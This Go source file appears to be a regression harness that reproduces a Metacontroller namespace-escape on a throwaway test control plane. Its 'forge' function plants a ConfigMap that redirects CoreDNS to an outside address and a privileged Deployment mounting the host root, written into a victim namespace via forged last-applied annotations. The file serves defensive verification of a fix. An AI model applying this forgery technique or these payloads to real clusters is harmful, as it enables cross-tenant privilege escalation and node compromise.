package main

import (
	"cmp"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/watch"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"
)

// proveEscape (-prove-escape) proves, with the real Metacontroller, whether
// a tenant who may edit its own namespace can make Metacontroller write in
// another (issue #32, item 3). Metacontroller applies what the hook answers
// with its own cluster-wide rights, in each child's metadata.namespace; a
// hook that, holding children, answers the object of a child's
// last-applied annotation as it stands answers whatever the child's editor
// wrote there. Under each apply strategy, on a fresh control plane, with
// Metacontroller as its chart's ServiceAccount and kube-controller-manager
// running (as in a cluster: RBAC binds both):
//
//  1. The tenant, a ServiceAccount bound in namespace tenant to the edit
//     ClusterRole and a Role for Monocles, is shown (SubjectAccessReviews
//     and a refused request) unable to write in namespace victim, which
//     holds a ConfigMap coredns.
//  2. As the tenant: a Monocle with the default spec, awaited until it has
//     its children; then a spec the CRD admits and the hook refuses
//     (InvalidSpec: every child held as last applied), awaited in its
//     status; then the last-applied annotations of its ConfigMap, Secret
//     and Deployment <name>-api forged to name victim/coredns, a Secret
//     victim/planted and a privileged hostPath Deployment victim/pwn.
//  3. Watches on every namespace, from before Metacontroller starts to
//     escapeWindow after the forgery, record every write to a child kind
//     (and to the ReplicaSets and Pods a workload makes) outside namespace
//     tenant. What Metacontroller writes there carries a controller
//     ownerReference to the Monocle, which the garbage collector finds
//     absent from that namespace: it deletes the object within a second,
//     after it was written (a ConfigMap overwritten, a Pod made).
//
// The spec is refused before the annotations are forged: while the spec
// applies, Metacontroller's next apply replaces (dynamic apply) or removes
// (server-side apply) a forged annotation, and the forgery would race it.
//
// It prints a verdict per strategy, and returns an error when a write
// escaped under either: a regression check for the hook's fix.
func proveEscape(ctx context.Context, o options) error {
	// The edit ClusterRole is aggregated by kube-controller-manager: without
	// it the tenant could edit nothing. And a system:masters Metacontroller
	// would prove nothing of its chart's rights.
	if !o.asInACluster {
		return errors.New("-prove-escape runs as in a cluster only (-as-in-a-cluster=false has no kube-controller-manager to fill the edit ClusterRole)")
	}
	var escaped []string
	for _, strategy := range []string{"dynamic-apply", "server-side-apply"} {
		start := time.Now()
		writes, err := escapeOnce(ctx, o, strategy)
		if err != nil {
			return fmt.Errorf("escape %s: %w", strategy, err)
		}
		fmt.Printf("escape %s: %s (run %.0f s)\n", strategy, verdict(writes), time.Since(start).Seconds())
		if len(writes) > 0 {
			escaped = append(escaped, strategy)
		}
	}
	if len(escaped) > 0 {
		return fmt.Errorf("writes escaped namespace %s under %s; logs in %s", tenantNS, strings.Join(escaped, " and "), o.workdir)
	}
	fmt.Printf("escape: nothing written outside namespace %s under either strategy; logs in %s\n", tenantNS, o.workdir)
	return nil
}

// The attack's names: the tenant's namespace and ServiceAccount, its
// Monocle, and the namespace and ConfigMap it aims at.
const (
	tenantNS      = "tenant"
	tenantSA      = "tenant"
	tenantMonocle = "m"
	victimNS      = "victim"
	victimCM      = "coredns"
	// escapeWindow is how long the writes are watched for after the forgery:
	// Metacontroller syncs on the children's watch events, within a second
	// or two, and the garbage collector acts on what it wrote soon after.
	escapeWindow = 25 * time.Second
)

// escapeOnce runs the attack under one apply strategy on a control plane of
// its own, and returns the writes outside namespace tenant.
func escapeOnce(ctx context.Context, o options, strategy string) ([]write, error) {
	dir := filepath.Join(o.workdir, "escape-"+strategy)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	hookURL, hook, err := startHook(ctx, o, dir)
	if err != nil {
		return nil, err
	}
	defer hook.stop()
	cc, err := compositeController(o.controller, hookURL)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(ctx)
	cp, err := startControlPlane(ctx, o, cc, []string{tenantNS, victimNS})
	if err != nil {
		cancel()
		return nil, err
	}
	// The watches end first: the API server waits for them on its way out.
	defer func() {
		cancel()
		cp.stop(0)
	}()
	ccGVR := schema.GroupVersionResource{Group: "metacontroller.k8s.io", Version: "v1alpha1", Resource: "compositecontrollers"}
	if _, err := cp.dyn.Resource(ccGVR).Create(ctx, cc, metav1.CreateOptions{}); err != nil {
		return nil, err
	}
	probe := newMonocle(cp.parentGVR, cp.parentKind, tenantNS, tenantMonocle)
	children, _, err := askHook(ctx, &http.Client{Timeout: 10 * time.Second}, hookURL+"/sync", probe)
	if err != nil {
		return nil, err
	}
	kubeconfig, err := controllerKubeconfig(ctx, o, cp, dir)
	if err != nil {
		return nil, err
	}
	kcm, err := startControllerManager(cp, dir)
	if err != nil {
		return nil, err
	}
	defer kcm.stop()
	tenant, err := confinedTenant(ctx, cp, strategy)
	if err != nil {
		return nil, err
	}
	if err := rootCAsPublished(ctx, cp); err != nil {
		return nil, err
	}
	log, err := watchWrites(ctx, cp, tenantNS)
	if err != nil {
		return nil, err
	}
	mc, err := startMetacontroller(ctx, o, dir, "metacontroller-"+strategy, kubeconfig, "--apply-strategy="+strategy)
	if err != nil {
		return nil, err
	}
	defer mc.stop()
	if err := attack(ctx, cp, tenant, mc, len(children), strategy, log); err != nil {
		return nil, err
	}
	if err := log.failed(); err != nil {
		return nil, fmt.Errorf("a watch failed, so the record is incomplete: %w", err)
	}
	writes := log.all()
	for _, w := range writes {
		fmt.Printf("escape %s:   %s\n", strategy, w)
	}
	victimState(ctx, cp, strategy)
	return writes, nil
}

// startHook starts the hook on a free loopback port and waits for it.
func startHook(ctx context.Context, o options, dir string) (string, *process, error) {
	addr, err := freeLoopbackAddress()
	if err != nil {
		return "", nil, err
	}
	hook, err := startProcess(filepath.Join(dir, "hook.log"), o.hook, nil, "--listen", addr)
	if err != nil {
		return "", nil, err
	}
	if err := waitHealthy(ctx, hook, "http://"+addr+"/healthz"); err != nil {
		hook.stop()
		return "", nil, fmt.Errorf("the hook: %w", err)
	}
	return "http://" + addr, hook, nil
}

// startMetacontroller starts one Metacontroller on loopback addresses, the
// flags given after -mc-flags so that they win, and waits for it.
func startMetacontroller(ctx context.Context, o options, dir, name, kubeconfig string, extra ...string) (*process, error) {
	health, err := freeLoopbackAddress()
	if err != nil {
		return nil, err
	}
	args := append(slices.Clone(o.mcFlags), extra...)
	args = append(args, "--kubeconfig="+kubeconfig, "--metrics-address=0", "--health-probe-bind-address="+health, "--pprof-address=0")
	mc, err := startProcess(filepath.Join(dir, name+".log"), o.metacontroller, o.mcEnv, args...)
	if err != nil {
		return nil, err
	}
	if err := waitHealthy(ctx, mc, "http://"+health+"/healthz"); err != nil {
		mc.stop()
		return nil, err
	}
	return mc, nil
}

// tenant is the attacker: a client with the tenant ServiceAccount's token.
type tenant struct {
	dyn    dynamic.Interface
	user   string
	groups []string
}

// confinedTenant makes namespace victim's ConfigMap and the tenant, and
// shows the tenant confined to its namespace: what a namespace's editor may
// do there, and nothing in victim.
func confinedTenant(ctx context.Context, cp *controlPlane, strategy string) (*tenant, error) {
	admin, err := kubernetes.NewForConfig(cp.env.Config)
	if err != nil {
		return nil, err
	}
	victim := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: victimCM, Namespace: victimNS},
		Data: map[string]string{"Corefile": ".:53 {\n    forward . /etc/resolv.conf\n}\n"}}
	if _, err := admin.CoreV1().ConfigMaps(victimNS).Create(ctx, victim, metav1.CreateOptions{}); err != nil {
		return nil, err
	}
	t, err := newTenant(ctx, cp, admin)
	if err != nil {
		return nil, err
	}
	if err := t.confined(ctx, admin, strategy); err != nil {
		return nil, err
	}
	return t, nil
}

// newTenant makes the tenant's ServiceAccount, bound in its namespace only
// to the edit ClusterRole (which names no Monocle) and to a Role of every
// verb on Monocles, and a client with a token of it.
func newTenant(ctx context.Context, cp *controlPlane, admin *kubernetes.Clientset) (*tenant, error) {
	if _, err := admin.CoreV1().ServiceAccounts(tenantNS).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: tenantSA}}, metav1.CreateOptions{}); err != nil {
		return nil, err
	}
	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "monocle-editor"},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{cp.parentGVR.Group}, Resources: []string{cp.parentGVR.Resource}, Verbs: []string{"*"}}}}
	if _, err := admin.RbacV1().Roles(tenantNS).Create(ctx, role, metav1.CreateOptions{}); err != nil {
		return nil, err
	}
	subjects := []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: tenantNS, Name: tenantSA}}
	for _, ref := range []rbacv1.RoleRef{{Kind: "ClusterRole", Name: "edit"}, {Kind: "Role", Name: role.Name}} {
		ref.APIGroup = rbacv1.GroupName
		binding := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "tenant-" + ref.Name}, RoleRef: ref, Subjects: subjects}
		if _, err := admin.RbacV1().RoleBindings(tenantNS).Create(ctx, binding, metav1.CreateOptions{}); err != nil {
			return nil, err
		}
	}
	token, err := admin.CoreV1().ServiceAccounts(tenantNS).CreateToken(ctx, tenantSA, &authenticationv1.TokenRequest{
		Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr.To(int64(3600))}}, metav1.CreateOptions{})
	if err != nil {
		return nil, fmt.Errorf("a token for %s/%s: %w", tenantNS, tenantSA, err)
	}
	cfg := &rest.Config{Host: cp.env.Config.Host, BearerToken: token.Status.Token,
		TLSClientConfig: rest.TLSClientConfig{CAData: cp.env.Config.CAData}, QPS: -1}
	dyn, err := dynamic.NewForConfig(cfg)
	if err != nil {
		return nil, err
	}
	return &tenant{dyn: dyn, user: "system:serviceaccount:" + tenantNS + ":" + tenantSA,
		groups: []string{"system:serviceaccounts", "system:serviceaccounts:" + tenantNS, "system:authenticated"}}, nil
}

// access is one SubjectAccessReview's question.
type access struct{ verb, group, resource, namespace string }

func (a access) String() string {
	resource := a.resource
	if a.group != "" {
		resource += "." + a.group
	}
	return a.verb + " " + resource + " in " + a.namespace
}

// confined waits until the tenant may edit its namespace (edit is an
// aggregated ClusterRole: kube-controller-manager fills its rules), checks
// that it may write nothing in victim, and has one write there refused.
func (t *tenant) confined(ctx context.Context, admin *kubernetes.Clientset, strategy string) error {
	allowed := []access{{"create", "monocle.monocle.change-metrics.io", "monocles", tenantNS},
		{"update", "", "configmaps", tenantNS}, {"update", "", "secrets", tenantNS}, {"update", "apps", "deployments", tenantNS}}
	denied := []access{{"update", "", "configmaps", victimNS}, {"create", "", "configmaps", victimNS},
		{"create", "", "secrets", victimNS}, {"create", "apps", "deployments", victimNS}, {"update", "", "configmaps", "kube-system"}}
	err := waitUntil(ctx, nil, time.Minute, "the tenant's edit rights", func(ctx context.Context) (bool, error) {
		for _, a := range allowed {
			if ok, err := t.may(ctx, admin, a); !ok || err != nil {
				return false, err
			}
		}
		return true, nil
	})
	if err != nil {
		return err
	}
	for _, a := range denied {
		if ok, err := t.may(ctx, admin, a); err != nil || ok {
			return fmt.Errorf("the tenant may %s (%v): not a confined tenant", a, err)
		}
	}
	patch := []byte(`{"data":{"Corefile":"tenant"}}`)
	_, err = t.dyn.Resource(schema.GroupVersionResource{Version: "v1", Resource: "configmaps"}).Namespace(victimNS).
		Patch(ctx, victimCM, types.MergePatchType, patch, metav1.PatchOptions{})
	if !apierrors.IsForbidden(err) {
		return fmt.Errorf("the tenant's patch of %s/%s: %v, want forbidden", victimNS, victimCM, err)
	}
	fmt.Printf("escape %s: the tenant %s may %s; may not %s (SubjectAccessReview); its patch of ConfigMap %s/%s: %s\n",
		strategy, t.user, joinAccess(allowed), joinAccess(denied), victimNS, victimCM, apierrors.ReasonForError(err))
	return nil
}

func joinAccess(as []access) string {
	var s []string
	for _, a := range as {
		s = append(s, a.String())
	}
	return strings.Join(s, ", ")
}

// may asks the API server's authorizer, as the admin, whether the tenant
// may do a.
func (t *tenant) may(ctx context.Context, admin *kubernetes.Clientset, a access) (bool, error) {
	review := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
		User: t.user, Groups: t.groups,
		ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: a.verb, Group: a.group, Resource: a.resource, Namespace: a.namespace}}}
	r, err := admin.AuthorizationV1().SubjectAccessReviews().Create(ctx, review, metav1.CreateOptions{})
	if err != nil {
		return false, err
	}
	return r.Status.Allowed, nil
}

// rootCAsPublished waits for kube-controller-manager's kube-root-ca.crt
// ConfigMap in every namespace: written in each new namespace as it starts,
// it would count as a write outside tenant.
func rootCAsPublished(ctx context.Context, cp *controlPlane) error {
	cms := cp.dyn.Resource(schema.GroupVersionResource{Version: "v1", Resource: "configmaps"})
	nsGVR := schema.GroupVersionResource{Version: "v1", Resource: "namespaces"}
	return waitUntil(ctx, nil, time.Minute, "kube-root-ca.crt in every namespace", func(ctx context.Context) (bool, error) {
		namespaces, err := cp.dyn.Resource(nsGVR).List(ctx, metav1.ListOptions{})
		if err != nil {
			return false, err
		}
		list, err := cms.List(ctx, metav1.ListOptions{FieldSelector: "metadata.name=kube-root-ca.crt"})
		return err == nil && len(list.Items) == len(namespaces.Items), err
	})
}

// attack is steps 2's writes, as the tenant, then the window.
func attack(ctx context.Context, cp *controlPlane, t *tenant, mc *process, perMonocle int, strategy string, log *writeLog) error {
	monocles := t.dyn.Resource(cp.parentGVR).Namespace(tenantNS)
	m := newMonocle(cp.parentGVR, cp.parentKind, tenantNS, tenantMonocle)
	created, err := monocles.Create(ctx, m, metav1.CreateOptions{})
	if err != nil {
		return fmt.Errorf("the tenant's Monocle: %w", err)
	}
	if err := waitUntil(ctx, mc, 3*time.Minute, "the Monocle's children", func(ctx context.Context) (bool, error) {
		n, err := childrenOf(ctx, cp, created.GetUID())
		return n >= perMonocle, err
	}); err != nil {
		return err
	}
	if err := waitCondition(ctx, monocles, mc, "True", ""); err != nil {
		return err
	}
	// The CRD's pattern admits any heap of digits; the hook refuses one over
	// 31g (hook/spec.go, elasticMemory): InvalidSpec, every child held.
	patch := []byte(`{"spec":{"elasticsearch":{"heap":"32g"}}}`)
	if _, err := monocles.Patch(ctx, tenantMonocle, types.MergePatchType, patch, metav1.PatchOptions{}); err != nil {
		return fmt.Errorf("the refused spec: %w", err)
	}
	if err := waitCondition(ctx, monocles, mc, "False", "InvalidSpec"); err != nil {
		return err
	}
	log.mark()
	forged, err := forge(ctx, cp, t)
	if err != nil {
		return err
	}
	fmt.Printf("escape %s: the spec refused (InvalidSpec); forged as the tenant: %s; watching %s\n", strategy, forged, escapeWindow)
	select {
	case <-time.After(escapeWindow):
		return nil
	case <-mc.done:
		return fmt.Errorf("metacontroller exited: %v (see %s)", mc.err, mc.logPath)
	case <-ctx.Done():
		return ctx.Err()
	}
}

// childrenOf counts the objects in namespace tenant that uid controls.
func childrenOf(ctx context.Context, cp *controlPlane, uid types.UID) (int, error) {
	n := 0
	for _, gvr := range cp.childGVRs {
		list, err := cp.dyn.Resource(gvr).Namespace(tenantNS).List(ctx, metav1.ListOptions{})
		if err != nil {
			return 0, err
		}
		for _, c := range list.Items {
			if owner := metav1.GetControllerOfNoCopy(&c); owner != nil && owner.UID == uid {
				n++
			}
		}
	}
	return n, nil
}

// waitCondition waits for the Monocle's SpecApplied condition to have
// status (and reason, unless empty) for its current generation.
func waitCondition(ctx context.Context, monocles dynamic.ResourceInterface, mc *process, status, reason string) error {
	what := fmt.Sprintf("SpecApplied=%s %s", status, reason)
	return waitUntil(ctx, mc, 2*time.Minute, what, func(ctx context.Context) (bool, error) {
		m, err := monocles.Get(ctx, tenantMonocle, metav1.GetOptions{})
		if err != nil {
			return false, err
		}
		if observed, _, _ := unstructured.NestedInt64(m.Object, "status", "observedGeneration"); observed != m.GetGeneration() {
			return false, nil
		}
		conditions, _, _ := unstructured.NestedSlice(m.Object, "status", "conditions")
		for _, c := range conditions {
			c, _ := c.(map[string]any)
			if c["type"] == "SpecApplied" {
				return c["status"] == status && (reason == "" || c["reason"] == reason), nil
			}
		}
		return false, nil
	})
}

// forge writes, as the tenant, the last-applied annotations of the
// Monocle's <name>-api ConfigMap, Secret and Deployment. The hook answers
// a held ConfigMap's or Secret's data as observed, so the ConfigMap's data
// is the attacker's too.
func forge(ctx context.Context, cp *controlPlane, t *tenant) (string, error) {
	api := tenantMonocle + "-api"
	targets := []struct {
		gvr    schema.GroupVersionResource
		forged map[string]any
		data   map[string]any
	}{
		{schema.GroupVersionResource{Version: "v1", Resource: "configmaps"}, forgedObject("v1", "ConfigMap", victimCM, map[string]any{"data": attackerData}), attackerData},
		{schema.GroupVersionResource{Version: "v1", Resource: "secrets"}, forgedObject("v1", "Secret", "planted", map[string]any{"type": "Opaque"}), nil},
		{schema.GroupVersionResource{Group: "apps", Version: "v1", Resource: "deployments"}, forgedObject("apps/v1", "Deployment", "pwn", map[string]any{"spec": privilegedSpec()}), nil},
	}
	var done []string
	for _, tg := range targets {
		annotation, err := json.Marshal(tg.forged)
		if err != nil {
			return "", err
		}
		children := t.dyn.Resource(tg.gvr).Namespace(tenantNS)
		child, err := children.Get(ctx, api, metav1.GetOptions{})
		if err != nil {
			return "", fmt.Errorf("the tenant's get of %s %s: %w", tg.gvr.Resource, api, err)
		}
		annotations := child.GetAnnotations()
		if annotations == nil {
			annotations = map[string]string{}
		}
		annotations["metacontroller.k8s.io/last-applied-configuration"] = string(annotation)
		child.SetAnnotations(annotations)
		if tg.data != nil {
			child.Object["data"] = maps.Clone(tg.data)
		}
		if _, err := children.Update(ctx, child, metav1.UpdateOptions{}); err != nil {
			return "", fmt.Errorf("the tenant's update of %s %s: %w", tg.gvr.Resource, api, err)
		}
		meta := tg.forged["metadata"].(map[string]any)
		done = append(done, fmt.Sprintf("%s %s/%s on %s %s", tg.forged["kind"], meta["namespace"], meta["name"], child.GetKind(), api))
	}
	return strings.Join(done, ", "), nil
}

// attackerData is what the forged ConfigMap writes in victim/coredns.
var attackerData = map[string]any{"Corefile": ".:53 {\n    forward . 203.0.113.66\n}\n"}

func forgedObject(apiVersion, kind, name string, body map[string]any) map[string]any {
	obj := map[string]any{"apiVersion": apiVersion, "kind": kind, "metadata": map[string]any{"name": name, "namespace": victimNS}}
	maps.Copy(obj, body)
	return obj
}

// privilegedSpec is a Deployment whose pod mounts the node's root and runs
// privileged.
func privilegedSpec() map[string]any {
	labels := map[string]any{"app": "pwn"}
	return map[string]any{
		"replicas": int64(1),
		"selector": map[string]any{"matchLabels": labels},
		"template": map[string]any{
			"metadata": map[string]any{"labels": labels},
			"spec": map[string]any{
				"containers": []any{map[string]any{
					"name": "pwn", "image": "busybox", "command": []any{"sleep", "infinity"},
					"securityContext": map[string]any{"privileged": true},
					"volumeMounts":    []any{map[string]any{"name": "host", "mountPath": "/host"}},
				}},
				"volumes": []any{map[string]any{"name": "host", "hostPath": map[string]any{"path": "/"}}},
			},
		},
	}
}

// victimState prints namespace victim's objects of the child kinds at the
// end, its Events (they name the controllers that acted there: the garbage
// collector's on an owner in another namespace), and ConfigMap coredns: its
// data, owners and writers.
func victimState(ctx context.Context, cp *controlPlane, strategy string) {
	victimEvents(ctx, cp, strategy)
	var names []string
	for _, gvr := range cp.childGVRs {
		list, err := cp.dyn.Resource(gvr).Namespace(victimNS).List(ctx, metav1.ListOptions{})
		if err != nil {
			fmt.Printf("escape %s: listing %s in %s: %v\n", strategy, gvr.Resource, victimNS, err)
			continue
		}
		for _, o := range list.Items {
			names = append(names, o.GetKind()+" "+o.GetName())
		}
	}
	fmt.Printf("escape %s: in namespace %s at the end: %s\n", strategy, victimNS, strings.Join(names, ", "))
	cm, err := cp.dyn.Resource(schema.GroupVersionResource{Version: "v1", Resource: "configmaps"}).Namespace(victimNS).Get(ctx, victimCM, metav1.GetOptions{})
	if err != nil {
		fmt.Printf("escape %s: ConfigMap %s/%s at the end: %v\n", strategy, victimNS, victimCM, err)
		return
	}
	data, _ := json.Marshal(cm.Object["data"])
	var owners, managers []string
	for _, r := range cm.GetOwnerReferences() {
		owners = append(owners, fmt.Sprintf("%s %s (controller %v)", r.Kind, r.Name, ptr.Deref(r.Controller, false)))
	}
	for _, f := range cm.GetManagedFields() {
		managers = append(managers, f.Manager+" "+string(f.Operation))
	}
	fmt.Printf("escape %s: ConfigMap %s/%s at the end: data %s; ownerReferences [%s]; managers [%s]\n",
		strategy, victimNS, victimCM, data, strings.Join(owners, ", "), strings.Join(managers, ", "))
}

// write is one watch event on an object outside the tenant's namespace.
type write struct {
	at        time.Duration // since the forgery began (negative: before)
	event     watch.EventType
	kind, key string // key: namespace/name
	rv        string
	manager   string // the newest managedFields entry's manager and operation
	detail    string // what it holds that matters: detailOf
}

// by is who wrote it, as far as the object says: a deletion's writer is
// not in the object, only who wrote it last.
func (w write) by() string {
	if w.event == watch.Deleted {
		return "last written by " + w.manager
	}
	return "by " + w.manager
}

func (w write) String() string {
	return fmt.Sprintf("%+6.1fs %s %s %s rv %s %s%s", w.at.Seconds(), w.event, w.kind, w.key, w.rv, w.by(), w.detail)
}

// detailOf is what an escaped object carries: a ConfigMap's data (whose it
// is), a Pod's privilege and host paths.
func detailOf(u *unstructured.Unstructured) string {
	switch u.GetKind() {
	case "ConfigMap":
		data, _ := json.Marshal(u.Object["data"])
		if len(data) > 120 {
			data = append(data[:120], "..."...)
		}
		return ": data " + string(data)
	case "Pod":
		var what []string
		containers, _, _ := unstructured.NestedSlice(u.Object, "spec", "containers")
		for _, c := range containers {
			if p, _, _ := unstructured.NestedBool(c.(map[string]any), "securityContext", "privileged"); p {
				what = append(what, "privileged")
			}
		}
		volumes, _, _ := unstructured.NestedSlice(u.Object, "spec", "volumes")
		for _, v := range volumes {
			if path, ok, _ := unstructured.NestedString(v.(map[string]any), "hostPath", "path"); ok {
				what = append(what, "hostPath "+path)
			}
		}
		node, _, _ := unstructured.NestedString(u.Object, "spec", "nodeName")
		phase, _, _ := unstructured.NestedString(u.Object, "status", "phase")
		return fmt.Sprintf(": %s, node %q, phase %s", strings.Join(what, ", "), node, phase)
	}
	return ""
}

// writeLog records, from watches on every namespace, the writes outside one.
type writeLog struct {
	mu     sync.Mutex
	forged time.Time
	writes []write
	err    error
}

// madeOfWorkloads are what the workload controllers make of an escaped
// Deployment, StatefulSet, Job or CronJob: whether a pod was made in the
// victim's namespace matters as much as the workload itself.
var madeOfWorkloads = []schema.GroupVersionResource{
	{Group: "apps", Version: "v1", Resource: "replicasets"},
	{Version: "v1", Resource: "pods"},
}

// watchWrites lists every child kind (and madeOfWorkloads) in every
// namespace and watches from the listing's resourceVersion: every event is
// then a write made after it, none the listing's own.
func watchWrites(ctx context.Context, cp *controlPlane, inside string) (*writeLog, error) {
	log := &writeLog{forged: time.Now()}
	for _, gvr := range append(slices.Clone(cp.childGVRs), madeOfWorkloads...) {
		list, err := cp.dyn.Resource(gvr).List(ctx, metav1.ListOptions{})
		if err != nil {
			return nil, err
		}
		go log.follow(ctx, cp.dyn.Resource(gvr), list.GetResourceVersion(), inside)
	}
	return log, nil
}

// follow watches one resource from rv until ctx is done, watching again
// from the last event when the API server ends a watch.
func (l *writeLog) follow(ctx context.Context, r dynamic.NamespaceableResourceInterface, rv, inside string) {
	for ctx.Err() == nil {
		w, err := r.Watch(ctx, metav1.ListOptions{ResourceVersion: rv, AllowWatchBookmarks: true})
		if err != nil {
			l.fail(err)
			return
		}
		for ev := range w.ResultChan() {
			if ev.Type == watch.Error {
				l.fail(apierrors.FromObject(ev.Object))
				w.Stop()
				return
			}
			u, ok := ev.Object.(*unstructured.Unstructured)
			if !ok {
				continue
			}
			rv = u.GetResourceVersion()
			if ev.Type != watch.Bookmark && u.GetNamespace() != inside {
				l.record(ev.Type, u)
			}
		}
		w.Stop()
	}
}

func (l *writeLog) record(event watch.EventType, u *unstructured.Unstructured) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.writes = append(l.writes, write{at: time.Since(l.forged), event: event, kind: u.GetKind(),
		key: u.GetNamespace() + "/" + u.GetName(), rv: u.GetResourceVersion(), manager: newestManager(u), detail: detailOf(u)})
}

// newestManager names the managedFields entries written last: entries are
// stamped to the second, so all those of the newest second.
func newestManager(u *unstructured.Unstructured) string {
	var newest time.Time
	for _, f := range u.GetManagedFields() {
		if f.Time != nil && f.Time.After(newest) {
			newest = f.Time.Time
		}
	}
	var names []string
	for _, f := range u.GetManagedFields() {
		if f.Time != nil && f.Time.Time.Equal(newest) {
			name := f.Manager + " " + string(f.Operation)
			if f.Subresource != "" {
				name += "/" + f.Subresource
			}
			names = append(names, name)
		}
	}
	if len(names) == 0 {
		return "?"
	}
	return strings.Join(names, " | ")
}

// mark sets the moment the forgery begins, which writes are timed from.
func (l *writeLog) mark() {
	l.mu.Lock()
	defer l.mu.Unlock()
	shift := time.Since(l.forged)
	for i := range l.writes {
		l.writes[i].at -= shift
	}
	l.forged = time.Now()
}

func (l *writeLog) fail(err error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.err = errors.Join(l.err, err)
}

func (l *writeLog) failed() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.err
}

func (l *writeLog) all() []write {
	l.mu.Lock()
	defer l.mu.Unlock()
	return slices.Clone(l.writes)
}

// verdict sums the writes up by object, in the order first written; the
// lines before it say who wrote each.
func verdict(writes []write) string {
	if len(writes) == 0 {
		return "none"
	}
	var order []string
	events := map[string][]string{}
	for _, w := range writes {
		id := w.kind + " " + w.key
		if events[id] == nil {
			order = append(order, id)
		}
		events[id] = append(events[id], string(w.event))
	}
	var parts []string
	for _, id := range order {
		parts = append(parts, fmt.Sprintf("%s (%s)", id, strings.Join(events[id], ", ")))
	}
	return fmt.Sprintf("%d writes outside namespace %s: %s", len(writes), tenantNS, strings.Join(parts, "; "))
}

// waitUntil polls cond until it holds, failing after timeout or when mc
// (if not nil) exits.
func waitUntil(ctx context.Context, mc *process, timeout time.Duration, what string, cond func(context.Context) (bool, error)) error {
	deadline := time.Now().Add(timeout)
	var done <-chan struct{}
	if mc != nil {
		done = mc.done
	}
	for {
		ok, err := cond(ctx)
		if ok {
			return nil
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("%s: not within %s (last error: %v)", what, timeout, err)
		}
		select {
		case <-time.After(200 * time.Millisecond):
		case <-done:
			return fmt.Errorf("%s: metacontroller exited: %v (see %s)", what, mc.err, mc.logPath)
		case <-ctx.Done():
			return ctx.Err()
		}
	}
}

// victimEvents prints the Events of namespace victim, cut to a line each.
func victimEvents(ctx context.Context, cp *controlPlane, strategy string) {
	admin, err := kubernetes.NewForConfig(cp.env.Config)
	if err != nil {
		fmt.Printf("escape %s: events: %v\n", strategy, err)
		return
	}
	events, err := admin.CoreV1().Events(victimNS).List(ctx, metav1.ListOptions{})
	if err != nil {
		fmt.Printf("escape %s: events: %v\n", strategy, err)
		return
	}
	for _, e := range events.Items {
		msg := e.Message
		if len(msg) > 200 {
			msg = msg[:200] + "..."
		}
		fmt.Printf("escape %s: event in %s: %s %s %s/%s from %s: %s\n", strategy, victimNS, e.Type, e.Reason,
			e.InvolvedObject.Kind, e.InvolvedObject.Name, cmp.Or(e.Source.Component, e.ReportingController), msg)
	}
}
